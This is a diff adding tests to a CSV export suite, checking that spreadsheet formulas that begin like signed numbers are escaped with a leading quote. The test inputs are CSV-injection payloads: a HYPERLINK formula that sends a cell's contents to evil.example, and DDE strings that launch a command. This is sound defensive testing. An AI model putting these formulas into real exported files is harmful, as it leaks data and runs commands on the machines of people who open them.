@@ -26,6 +26,15 @@ describe('CSV', () => {
       '"\'=HYPERLINK(""x"")",\'@SUM(A1),-0.15,+44 20\r\n',
     );
   });
+
+  // Excel, LibreOffice and Google Sheets run each of these as a formula: a sign and a digit do not make a number.
+  it.each([
+    '-1+HYPERLINK("https://evil.example/?leak="&B2,"Open the plan")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+  ])('defuses %s, which starts like a signed number', (formula) => {
+    expect(parseCsv(toCsv([[formula]]))).toEqual([[`'${formula}`]]);
+  });
 });
 
 describe('the measurement fields schema', () => {
